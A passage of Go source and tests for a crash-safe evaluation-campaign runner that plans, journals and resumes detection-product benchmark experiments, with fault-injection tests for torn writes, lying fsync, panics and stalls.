		t.Fatalf("b = %+v, want done", got["b"])
	}
}

func TestReplayJournalToleratesTornTail(t *testing.T) {
	dir := t.TempDir()
	// A kill -9 mid-append leaves a half-written final line.
	writeJournal(t, dir,
		`{"id":"a","status":"done"}`+"\n"+
			`{"id":"b","status":"do`)
	got, _, err := ReplayJournal(dir)
	if err != nil {
		t.Fatalf("torn tail should be tolerated: %v", err)
	}
	if got["a"].Status != StatusDone {
		t.Fatalf("a = %+v, want done", got["a"])
	}
	if _, ok := got["b"]; ok {
		t.Fatal("torn entry for b must not be replayed")
	}
}

func TestReplayJournalRejectsTornMiddle(t *testing.T) {
	dir := t.TempDir()
	writeJournal(t, dir,
		`{"id":"a","status":"do`+"\n"+
			`{"id":"b","status":"done"}`+"\n")
	if _, _, err := ReplayJournal(dir); err == nil {
		t.Fatal("a torn non-final line is corruption and must error")
	}
}

func TestReplayJournalAbsentIsEmpty(t *testing.T) {
	got, n, err := ReplayJournal(t.TempDir())
	if err != nil || n != 0 || len(got) != 0 {
		t.Fatalf("absent journal: got %v entries=%d err=%v", got, n, err)
	}
}
