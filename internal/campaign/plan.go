// Package campaign is the harness's durable evaluation-campaign runner:
// it decomposes a long sweep — full product evaluations, sensitivity
// sweeps, fault-severity sweeps, trace-accuracy runs — into addressable
// experiments with deterministic IDs, journals each completed
// experiment to an append-only manifest, and on restart replays the
// journal and re-runs only what is missing or failed.
//
// Crash-safety contract: an experiment's result file is written
// atomically (temp + fsync + rename) *before* its journal line is
// appended (write + fsync), so the journal line is the commit point — a
// journaled experiment always has a complete result on disk. The final
// report is rendered exclusively from the plan and the persisted result
// payloads, never from journal bookkeeping (attempts, wall times), so a
// campaign interrupted at any instant and resumed produces a report
// byte-identical to one that ran uninterrupted with the same seed.
package campaign

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"repro/internal/fsio"
	"repro/internal/products"
)

// Kind names what one experiment runs.
type Kind string

const (
	// KindEval is a full product evaluation (complete scorecard).
	KindEval Kind = "eval"
	// KindSweepPoint is one sensitivity-sweep point (Figure 4).
	KindSweepPoint Kind = "sweep-point"
	// KindFaultPoint is one fault-severity point (degradation curve).
	KindFaultPoint Kind = "fault-point"
	// KindTrace is one trace-accuracy replay (Lesson 2).
	KindTrace Kind = "trace"
)

// Spec declares a campaign. It is persisted verbatim as plan.json in
// the campaign directory; the experiment list is a pure function of it,
// so a resumed campaign re-derives exactly the plan it started with.
type Spec struct {
	Name string `json:"name"`
	Seed int64  `json:"seed"`
	// Quick shrinks every experiment to smoke-test scale.
	Quick bool `json:"quick,omitempty"`
	// Products is the evaluated field; empty means every known product.
	Products []string `json:"products,omitempty"`
	// Evals runs the full scorecard evaluation per product.
	Evals bool `json:"evals,omitempty"`
	// SweepPoints > 0 adds a sensitivity sweep of that many points per
	// product, one experiment per point.
	SweepPoints int `json:"sweep_points,omitempty"`
	// FaultScenarios are fault scenario JSON paths; each is swept at
	// FaultPoints severities per product, one experiment per point.
	FaultScenarios []string `json:"fault_scenarios,omitempty"`
	FaultPoints    int      `json:"fault_points,omitempty"`
	// Traces are canned trace files replayed per product at Sensitivity.
	Traces      []string `json:"traces,omitempty"`
	Sensitivity float64  `json:"sensitivity,omitempty"`
}

func (s *Spec) applyDefaults() {
	if s.Name == "" {
		s.Name = "campaign"
	}
	if s.Seed == 0 {
		s.Seed = 11
	}
	if len(s.FaultScenarios) > 0 && s.FaultPoints == 0 {
		s.FaultPoints = 5
	}
	if s.Sensitivity == 0 {
		s.Sensitivity = 0.6
	}
}

// Experiment is one addressable, independently journaled unit of work.
type Experiment struct {
	// ID is deterministic: derived from the spec alone, stable across
	// plan/run/resume, and unique within the campaign.
	ID      string `json:"id"`
	Kind    Kind   `json:"kind"`
	Product string `json:"product"`
	// Index/Points locate a sweep or fault point within its curve.
	Index  int `json:"index,omitempty"`
	Points int `json:"points,omitempty"`
	// Scenario is the fault scenario path (fault points only).
	Scenario string `json:"scenario,omitempty"`
	// Trace is the trace file path (trace runs only).
	Trace string `json:"trace,omitempty"`
}

// artifact strips a path to the bare name used inside experiment IDs.
func artifact(path string) string {
	base := filepath.Base(path)
	return strings.TrimSuffix(base, filepath.Ext(base))
}

// Plan derives the campaign's experiment list. The order is
// deterministic — products in spec order, points in index order — and
// doubles as the report's section order.
func (s *Spec) Plan() ([]Experiment, error) {
	s.applyDefaults()
	field := s.Products
	if len(field) == 0 {
		for _, spec := range products.All() {
			field = append(field, spec.Name)
		}
	}
	seen := map[string]bool{}
	for _, name := range field {
		if _, ok := products.Find(name); !ok {
			return nil, fmt.Errorf("campaign: unknown product %q", name)
		}
		if seen[name] {
			return nil, fmt.Errorf("campaign: product %q listed twice", name)
		}
		seen[name] = true
	}

	var exps []Experiment
	if s.Evals {
		for _, p := range field {
			exps = append(exps, Experiment{ID: "eval/" + p, Kind: KindEval, Product: p})
		}
	}
	if s.SweepPoints > 0 {
		if s.SweepPoints < 2 {
			return nil, fmt.Errorf("campaign: sweep needs at least 2 points, got %d", s.SweepPoints)
		}
		for _, p := range field {
			for i := 0; i < s.SweepPoints; i++ {
				exps = append(exps, Experiment{
					ID:   fmt.Sprintf("sweep/%s/p%02dof%02d", p, i+1, s.SweepPoints),
					Kind: KindSweepPoint, Product: p, Index: i, Points: s.SweepPoints,
				})
			}
		}
	}
	for _, sc := range s.FaultScenarios {
		if s.FaultPoints < 2 {
			return nil, fmt.Errorf("campaign: fault sweep needs at least 2 points, got %d", s.FaultPoints)
		}
		for _, p := range field {
			for i := 0; i < s.FaultPoints; i++ {
				exps = append(exps, Experiment{
					ID:   fmt.Sprintf("fault/%s/%s/s%02dof%02d", artifact(sc), p, i+1, s.FaultPoints),
					Kind: KindFaultPoint, Product: p, Index: i, Points: s.FaultPoints,
					Scenario: sc,
				})
			}
		}
	}
	for _, tr := range s.Traces {
		for _, p := range field {
			exps = append(exps, Experiment{
				ID:   fmt.Sprintf("trace/%s/%s", artifact(tr), p),
				Kind: KindTrace, Product: p, Trace: tr,
			})
		}
	}
	if len(exps) == 0 {
		return nil, fmt.Errorf("campaign: empty plan — enable evals, sweeps, fault scenarios, or traces")
	}
	ids := map[string]bool{}
	for _, e := range exps {
		if ids[e.ID] {
			return nil, fmt.Errorf("campaign: duplicate experiment id %q (colliding artifact names?)", e.ID)
		}
		ids[e.ID] = true
	}
	return exps, nil
}

// planFile is the spec's location inside a campaign directory.
func planFile(dir string) string { return filepath.Join(dir, "plan.json") }

// SavePlan writes the spec atomically as the campaign's plan.json.
func SavePlan(dir string, spec *Spec) error { return SavePlanFS(fsio.OS, dir, spec) }

// SavePlanFS is SavePlan against an explicit storage seam.
func SavePlanFS(fsys fsio.FS, dir string, spec *Spec) error {
	spec.applyDefaults()
	if _, err := spec.Plan(); err != nil {
		return err
	}
	if err := fsys.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("campaign: %w", err)
	}
	return fsio.WriteAtomicFS(fsys, planFile(dir), func(w io.Writer) error {
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		return enc.Encode(spec)
	})
}

// LoadPlan reads the campaign's plan.json.
func LoadPlan(dir string) (*Spec, error) {
	f, err := os.Open(planFile(dir))
	if err != nil {
		return nil, fmt.Errorf("campaign: no plan in %s (run `campaign plan` first): %w", dir, err)
	}
	defer f.Close()
	var spec Spec
	dec := json.NewDecoder(f)
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		return nil, fmt.Errorf("campaign: parsing %s: %w", planFile(dir), err)
	}
	spec.applyDefaults()
	return &spec, nil
}
