package campaign_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/campaign"
	"repro/internal/core"
	"repro/internal/obs"
	"repro/internal/products"
	"repro/internal/report"
)

// twoProducts returns two real product names for synthetic plans.
func twoProducts(t *testing.T) (string, string) {
	t.Helper()
	all := products.All()
	if len(all) < 2 {
		t.Fatal("need at least two products")
	}
	return all[0].Name, all[1].Name
}

// syntheticSpec is a sweep-only campaign over two products.
func syntheticSpec(t *testing.T, points int) *campaign.Spec {
	a, b := twoProducts(t)
	return &campaign.Spec{Name: "synthetic", Seed: 7, Products: []string{a, b}, SweepPoints: points}
}

// syntheticExec produces a deterministic result for any experiment
// without running a simulation.
func syntheticExec(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
	return &campaign.Result{
		ID: ex.ID, Kind: ex.Kind, Product: ex.Product,
		Point: &campaign.PointResult{
			Index: ex.Index, Points: ex.Points,
			Sensitivity: float64(ex.Index) / float64(ex.Points-1),
			TypeI:       float64(ex.Index),
			TypeII:      float64(ex.Points - ex.Index),
		},
	}, nil
}

func newRunner(dir string, spec *campaign.Spec) *campaign.Runner {
	return &campaign.Runner{
		Dir: dir, Spec: spec, Workers: 2,
		Backoff: time.Millisecond, StallTimeout: -1, Grace: time.Second,
	}
}

func renderReport(t *testing.T, dir string) string {
	t.Helper()
	st, err := campaign.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := report.CampaignReport(&buf, st, core.StandardRegistry()); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestPlanIDsAreDeterministic(t *testing.T) {
	a, b := twoProducts(t)
	spec := &campaign.Spec{
		Name: "p", Seed: 3, Products: []string{a, b}, Evals: true, SweepPoints: 3,
		FaultScenarios: []string{"examples/faults/span-degrade.json"}, FaultPoints: 2,
		Traces: []string{"t1.idtr"},
	}
	first, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	second, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if len(first) != len(second) {
		t.Fatalf("plan sizes differ: %d vs %d", len(first), len(second))
	}
	for i := range first {
		if first[i] != second[i] {
			t.Fatalf("plan diverges at %d: %+v vs %+v", i, first[i], second[i])
		}
	}
	wantIDs := []string{
		"eval/" + a,
		"sweep/" + a + "/p01of03",
		"fault/span-degrade/" + a + "/s01of02",
		"trace/t1/" + a,
	}
	got := map[string]bool{}
	for _, ex := range first {
		got[ex.ID] = true
	}
	for _, id := range wantIDs {
		if !got[id] {
			t.Fatalf("plan missing expected id %q (have %v)", id, first)
		}
	}
}

func TestRunCommitsAndResumeSkips(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	var calls atomic.Int64
	r := newRunner(dir, spec)
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		calls.Add(1)
		return syntheticExec(ctx, ex)
	})
	out, err := r.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out.Completed != 6 || out.Skipped != 0 {
		t.Fatalf("first run: %+v, want 6 completed", out)
	}
	if calls.Load() != 6 {
		t.Fatalf("exec calls = %d, want 6", calls.Load())
	}

	r2 := newRunner(dir, spec)
	r2.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		t.Errorf("resume re-ran committed experiment %s", ex.ID)
		return syntheticExec(ctx, ex)
	})
	out2, err := r2.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out2.Skipped != 6 || out2.Completed != 0 {
		t.Fatalf("second run: %+v, want 6 skipped", out2)
	}
}

func TestCrashResumeReportByteIdentical(t *testing.T) {
	spec := syntheticSpec(t, 4)

	clean := t.TempDir()
	if err := campaign.SavePlan(clean, spec); err != nil {
		t.Fatal(err)
	}
	r := newRunner(clean, spec)
	r.SetExecOverride(syntheticExec)
	if _, err := r.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := renderReport(t, clean)

	crashed := t.TempDir()
	if err := campaign.SavePlan(crashed, spec); err != nil {
		t.Fatal(err)
	}
	rc := newRunner(crashed, spec)
	rc.SetExecOverride(syntheticExec)
	rc.SetCrashAfter(3)
	if _, err := rc.Run(context.Background()); !errors.Is(err, campaign.ErrCrashInjected) {
		t.Fatalf("crash run error = %v, want ErrCrashInjected", err)
	}
	// Simulate the kill landing mid-append on top of the crash: a torn
	// half-line at the journal tail.
	jf, err := os.OpenFile(filepath.Join(crashed, "journal.jsonl"), os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := jf.WriteString(`{"id":"sweep/tr`); err != nil {
		t.Fatal(err)
	}
	jf.Close()

	rr := newRunner(crashed, spec)
	var resumed atomic.Int64
	rr.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		resumed.Add(1)
		return syntheticExec(ctx, ex)
	})
	out, err := rr.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out.Skipped != 3 {
		t.Fatalf("resume skipped %d, want the 3 journaled experiments", out.Skipped)
	}
	if resumed.Load() != 5 {
		t.Fatalf("resume ran %d experiments, want 5", resumed.Load())
	}

	got := renderReport(t, crashed)
	if got != want {
		t.Fatalf("resumed report differs from uninterrupted run:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}

	// Result payload files must match byte for byte too.
	entries, err := os.ReadDir(filepath.Join(clean, "results"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		a, err := os.ReadFile(filepath.Join(clean, "results", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(filepath.Join(crashed, "results", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a, b) {
			t.Fatalf("result %s differs between clean and resumed runs", e.Name())
		}
	}
}

func TestPanicIsolationJournalsStackAndSparesSiblings(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	exps, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	victim := exps[1].ID

	r := newRunner(dir, spec)
	r.MaxAttempts = 2
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		if ex.ID == victim {
			panic("synthetic explosion")
		}
		return syntheticExec(ctx, ex)
	})
	out, err := r.Run(context.Background())
	if err == nil || !strings.Contains(err.Error(), "1 of 6 experiments failed") {
		t.Fatalf("err = %v, want permanent-failure summary", err)
	}
	if out.Completed != 5 {
		t.Fatalf("completed = %d, want the 5 siblings", out.Completed)
	}
	if len(out.Failed) != 1 || out.Failed[0] != victim {
		t.Fatalf("failed = %v, want [%s]", out.Failed, victim)
	}
	if out.Retries != 1 {
		t.Fatalf("retries = %d, want 1", out.Retries)
	}

	entries, _, err := campaign.ReplayJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	e := entries[victim]
	if e.Status != campaign.StatusPanicked {
		t.Fatalf("journal status = %q, want panicked", e.Status)
	}
	if !strings.Contains(e.Error, "synthetic explosion") {
		t.Fatalf("journal error = %q, want the panic value", e.Error)
	}
	if !strings.Contains(e.Stack, "goroutine") {
		t.Fatalf("journal stack missing: %q", e.Stack)
	}
}

func TestWatchdogCancelsStalledExperiment(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	exps, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	wedged := exps[0].ID

	r := newRunner(dir, spec)
	r.MaxAttempts = 1
	r.StallTimeout = 100 * time.Millisecond
	r.Grace = 2 * time.Second
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		if ex.ID == wedged {
			// A wedged experiment: no heartbeats, only cancellable.
			<-ctx.Done()
			return nil, ctx.Err()
		}
		return syntheticExec(ctx, ex)
	})
	out, err := r.Run(context.Background())
	if err == nil {
		t.Fatal("want a permanent-failure error for the stalled experiment")
	}
	if out.Completed != 5 {
		t.Fatalf("completed = %d, want the 5 live siblings", out.Completed)
	}
	entries, _, err := campaign.ReplayJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	e := entries[wedged]
	if e.Status != campaign.StatusTimeout {
		t.Fatalf("journal status = %q, want timeout (entry %+v)", e.Status, e)
	}
	if !strings.Contains(e.Error, "stall") {
		t.Fatalf("journal error = %q, want stall attribution", e.Error)
	}
}

func TestCancellationDrainsWithoutJournaling(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 4)
	ctx, cancel := context.WithCancel(context.Background())

	var started atomic.Int64
	r := newRunner(dir, spec)
	r.Workers = 1
	r.SetExecOverride(func(c context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		if started.Add(1) == 3 {
			cancel()
			<-c.Done()
			return nil, c.Err()
		}
		return syntheticExec(c, ex)
	})
	out, err := r.Run(ctx)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if !out.Stopped {
		t.Fatal("outcome must be marked stopped")
	}
	if out.Completed != 2 {
		t.Fatalf("completed = %d, want the 2 experiments before the cancel", out.Completed)
	}
	entries, _, err := campaign.ReplayJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	for id, e := range entries {
		if e.Status != campaign.StatusDone {
			t.Fatalf("cancelled experiment %s was journaled as %s; cancellation must not journal", id, e.Status)
		}
	}
	if len(entries) != 2 {
		t.Fatalf("journal has %d entries, want 2", len(entries))
	}
}

func TestMaxNewStopsCleanly(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 4)
	r := newRunner(dir, spec)
	r.Workers = 1
	r.MaxNew = 3
	r.SetExecOverride(syntheticExec)
	out, err := r.Run(context.Background())
	if err != nil {
		t.Fatalf("-max stop must be a clean outcome, got %v", err)
	}
	if !out.Stopped || out.Completed != 3 {
		t.Fatalf("outcome = %+v, want stopped after 3", out)
	}

	r2 := newRunner(dir, spec)
	r2.SetExecOverride(syntheticExec)
	out2, err := r2.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out2.Skipped != 3 || out2.Completed != 5 {
		t.Fatalf("resume outcome = %+v, want 3 skipped + 5 completed", out2)
	}
}

func TestResumeAfterJournaledPanicConvergesToCleanReport(t *testing.T) {
	spec := syntheticSpec(t, 3)
	exps, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	victim := exps[0].ID

	clean := t.TempDir()
	if err := campaign.SavePlan(clean, spec); err != nil {
		t.Fatal(err)
	}
	rclean := newRunner(clean, spec)
	rclean.SetExecOverride(syntheticExec)
	if _, err := rclean.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := renderReport(t, clean)

	dir := t.TempDir()
	if err := campaign.SavePlan(dir, spec); err != nil {
		t.Fatal(err)
	}
	r := newRunner(dir, spec)
	r.MaxAttempts = 1
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		if ex.ID == victim {
			panic("first-run crash in " + victim)
		}
		return syntheticExec(ctx, ex)
	})
	if _, err := r.Run(context.Background()); err == nil {
		t.Fatal("first run must report the panicked experiment")
	}

	// The "bug" is fixed; resume re-runs only the panicked experiment.
	rr := newRunner(dir, spec)
	var reran atomic.Int64
	rr.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		reran.Add(1)
		if ex.ID != victim {
			t.Errorf("resume re-ran healthy experiment %s", ex.ID)
		}
		return syntheticExec(ctx, ex)
	})
	out, err := rr.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if reran.Load() != 1 || out.Completed != 1 || out.Skipped != 5 {
		t.Fatalf("resume: reran=%d outcome=%+v, want exactly the panicked experiment", reran.Load(), out)
	}
	if got := renderReport(t, dir); got != want {
		t.Fatalf("post-panic resume report differs from clean run:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}
}

// TestRealSweepCrashResumeByteIdentical exercises the full stack — real
// simulations, no exec override — proving a crashed-and-resumed
// campaign reproduces the uninterrupted run bit for bit.
func TestRealSweepCrashResumeByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("real simulations; skipped in -short")
	}
	all := products.All()
	spec := &campaign.Spec{
		Name: "real", Seed: 11, Quick: true,
		Products: []string{all[0].Name}, SweepPoints: 2,
	}

	run := func(dir string, crashAfter int) error {
		r := newRunner(dir, spec)
		r.Workers = 1
		if crashAfter > 0 {
			r.SetCrashAfter(crashAfter)
		}
		_, err := r.Run(context.Background())
		return err
	}

	clean := t.TempDir()
	if err := campaign.SavePlan(clean, spec); err != nil {
		t.Fatal(err)
	}
	if err := run(clean, 0); err != nil {
		t.Fatal(err)
	}

	crashed := t.TempDir()
	if err := campaign.SavePlan(crashed, spec); err != nil {
		t.Fatal(err)
	}
	if err := run(crashed, 1); !errors.Is(err, campaign.ErrCrashInjected) {
		t.Fatalf("crash run error = %v, want ErrCrashInjected", err)
	}
	if err := run(crashed, 0); err != nil {
		t.Fatal(err)
	}

	if want, got := renderReport(t, clean), renderReport(t, crashed); got != want {
		t.Fatalf("resumed real-sweep report differs:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}
	entries, err := os.ReadDir(filepath.Join(clean, "results"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		a, err := os.ReadFile(filepath.Join(clean, "results", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(filepath.Join(crashed, "results", e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a, b) {
			t.Fatalf("result %s differs between clean and resumed real runs", e.Name())
		}
	}
}

func TestRetryAfterTransientFailure(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	exps, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	flaky := exps[2].ID

	var mu sync.Mutex
	attempts := map[string]int{}
	r := newRunner(dir, spec)
	r.MaxAttempts = 2
	r.Obs = obs.NewRegistry()
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		mu.Lock()
		attempts[ex.ID]++
		n := attempts[ex.ID]
		mu.Unlock()
		if ex.ID == flaky && n == 1 {
			return nil, fmt.Errorf("transient network blip")
		}
		return syntheticExec(ctx, ex)
	})
	out, err := r.Run(context.Background())
	if err != nil {
		t.Fatalf("flaky experiment should recover on retry: %v", err)
	}
	if out.Completed != 6 || out.Retries != 1 {
		t.Fatalf("outcome = %+v, want 6 completed with 1 retry", out)
	}
	if got := r.Obs.Counter("campaign.retried").Value(); got != 1 {
		t.Fatalf("campaign.retried = %d, want 1", got)
	}
	if got := r.Obs.Counter("campaign.completed").Value(); got != 6 {
		t.Fatalf("campaign.completed = %d, want 6", got)
	}
	if r.Obs.Histogram("campaign.checkpoint_write_ns", obs.ClockWall).Count() != 6 {
		t.Fatal("checkpoint write latency must be observed per commit")
	}
}
