package campaign_test

// Pinned regression schedules from cmd/crashtorture: the recovery bugs
// the storage-fault matrix found in the campaign runner, each replayed
// by its exact deterministic fault schedule.

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/campaign"
	"repro/internal/fsio/faultfs"
)

// TestResumeRerunsDoneEntryWithUnusableResult pins the "wedged forever"
// bug: a journal line says done but the result file is unusable (torn,
// missing, or corrupt). Before the fix, resume skipped the experiment
// on the journal's word while Load refused the directory — the
// campaign could never complete. Resume must re-run it instead.
func TestResumeRerunsDoneEntryWithUnusableResult(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	if err := campaign.SavePlan(dir, spec); err != nil {
		t.Fatal(err)
	}
	r := newRunner(dir, spec)
	r.SetExecOverride(syntheticExec)
	out, err := r.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	want := renderReport(t, dir)

	// Corrupt one result file behind the journal's back — the disk
	// equivalent of a torn write the journal never learned about.
	ents, err := os.ReadDir(filepath.Join(dir, "results"))
	if err != nil || len(ents) == 0 {
		t.Fatalf("reading results: %v (%d entries)", err, len(ents))
	}
	victim := filepath.Join(dir, "results", ents[0].Name())
	if err := os.WriteFile(victim, []byte("{torn"), 0o644); err != nil {
		t.Fatal(err)
	}

	r2 := newRunner(dir, spec)
	r2.SetExecOverride(syntheticExec)
	out2, err := r2.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out2.Completed != 1 || out2.Skipped != out.Planned-1 {
		t.Fatalf("resume completed=%d skipped=%d, want exactly the 1 unusable result re-run", out2.Completed, out2.Skipped)
	}
	if got := renderReport(t, dir); got != want {
		t.Fatal("report after re-run differs from uninterrupted run")
	}
}

// TestLyingFsyncOnResultFileHealsOnResume is the end-to-end version
// through the hostile disk: the result file's fsync lies, the journal
// line lands durably, the power cut then exposes the loss. The exact
// schedule comes from the crashtorture matrix (sync:lie on the first
// result commit).
func TestLyingFsyncOnResultFileHealsOnResume(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	if err := campaign.SavePlan(dir, spec); err != nil {
		t.Fatal(err)
	}
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpSync, Path: "results/", N: 1, SyncLie: true})
	r := newRunner(dir, spec)
	r.FS = ffs
	r.Exec = syntheticExec
	if _, err := r.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	ffs.CrashNow()

	// The power cut truncated the lied-about result to zero bytes while
	// its journal line survived.
	torn := 0
	ents, err := os.ReadDir(filepath.Join(dir, "results"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		fi, err := e.Info()
		if err != nil {
			t.Fatal(err)
		}
		if fi.Size() == 0 {
			torn++
		}
	}
	if torn != 1 {
		t.Fatalf("crash exposed %d torn results, want 1 (schedule drifted?)", torn)
	}

	r2 := newRunner(dir, spec)
	r2.SetExecOverride(syntheticExec)
	out, err := r2.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out.Completed != 1 || out.Skipped != out.Planned-1 {
		t.Fatalf("resume completed=%d skipped=%d of %d, want the torn result re-run and the rest skipped",
			out.Completed, out.Skipped, out.Planned)
	}
	if _, err := campaign.Load(dir); err != nil {
		t.Fatalf("campaign still unloadable after resume: %v", err)
	}
}

// TestResumeSweepsStrayResultTemp pins the stray-temp leak: a crash
// between a result's CreateTemp and Commit strands the atomic write's
// temp file, and before the fix no resume path removed it.
func TestResumeSweepsStrayResultTemp(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	if err := campaign.SavePlan(dir, spec); err != nil {
		t.Fatal(err)
	}
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpRename, Path: "results/", N: 2, Crash: true})
	r := &campaign.Runner{
		Dir: dir, Spec: spec, FS: ffs, Workers: 1,
		MaxAttempts: 1, Backoff: time.Millisecond, StallTimeout: -1,
		Exec: syntheticExec,
	}
	if _, err := r.Run(context.Background()); err == nil {
		t.Fatal("run succeeded despite crash mid-commit")
	}
	if !hasStray(t, filepath.Join(dir, "results")) {
		t.Fatal("test premise broken: crash left no stray temp")
	}

	r2 := newRunner(dir, spec)
	r2.SetExecOverride(syntheticExec)
	if _, err := r2.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	if hasStray(t, dir) || hasStray(t, filepath.Join(dir, "results")) {
		t.Fatal("resume left the stray atomic-write temp file behind")
	}
	if _, err := campaign.Load(dir); err != nil {
		t.Fatalf("campaign unloadable after resume: %v", err)
	}
}

func hasStray(t *testing.T, dir string) bool {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		if os.IsNotExist(err) {
			return false
		}
		t.Fatal(err)
	}
	for _, e := range ents {
		if strings.Contains(e.Name(), ".tmp-") {
			return true
		}
	}
	return false
}
