package campaign

import (
	"encoding/json"
	"fmt"

	"repro/internal/fsio"
)

// Result is the persisted payload of one completed experiment: the
// compact, JSON-stable summary the campaign report renders from.
// Exactly one of the kind-specific fields is set. Payloads contain no
// wall-clock times and no maps with nondeterministic order, so the
// serialized bytes are a pure function of seed + spec.
type Result struct {
	ID      string `json:"id"`
	Kind    Kind   `json:"kind"`
	Product string `json:"product"`

	Eval  *EvalResult  `json:"eval,omitempty"`
	Point *PointResult `json:"point,omitempty"`
	Fault *FaultResult `json:"fault,omitempty"`
	Trace *TraceResult `json:"trace,omitempty"`
}

// EvalResult summarizes a full product evaluation. Scorecard is the
// core.Scorecard JSON (registry order, deterministic bytes), so the
// report can re-rank the field without re-running anything.
type EvalResult struct {
	Scorecard     json.RawMessage `json:"scorecard"`
	DetectionRate float64         `json:"detection_rate"`
	FalseAlarms   int             `json:"false_alarms"`
	ZeroLossPps   float64         `json:"zero_loss_pps"`
	LethalPps     float64         `json:"lethal_pps"`
	MeanDelayNs   int64           `json:"mean_delay_ns"`
	EER           float64         `json:"eer"`
	EERValid      bool            `json:"eer_valid"`
}

// PointResult is one sensitivity-sweep point.
type PointResult struct {
	Index       int     `json:"index"`
	Points      int     `json:"points"`
	Sensitivity float64 `json:"sensitivity"`
	TypeI       float64 `json:"type_i"`
	TypeII      float64 `json:"type_ii"`
}

// FaultResult is one fault-severity point.
type FaultResult struct {
	Scenario       string  `json:"scenario"`
	Index          int     `json:"index"`
	Points         int     `json:"points"`
	Severity       float64 `json:"severity"`
	DetectionRate  float64 `json:"detection_rate"`
	AlertsLost     uint64  `json:"alerts_lost"`
	AlertsDropped  uint64  `json:"alerts_dropped"`
	SpoolDelivered uint64  `json:"spool_delivered"`
	SensorDownNs   int64   `json:"sensor_down_ns"`
}

// TraceResult is one trace-accuracy replay.
type TraceResult struct {
	Trace           string  `json:"trace"`
	ActualIncidents int     `json:"actual_incidents"`
	Detected        int     `json:"detected"`
	FalseAlarms     int     `json:"false_alarms"`
	DetectionRate   float64 `json:"detection_rate"`
	FalsePosRatio   float64 `json:"false_pos_ratio"`
	MeanDelayNs     int64   `json:"mean_delay_ns"`
}

// encode renders the result's canonical bytes (indented JSON, fixed
// field order).
func (r *Result) encode() ([]byte, error) {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("campaign: encoding result %s: %w", r.ID, err)
	}
	return append(b, '\n'), nil
}

// LoadResult reads one experiment's persisted result.
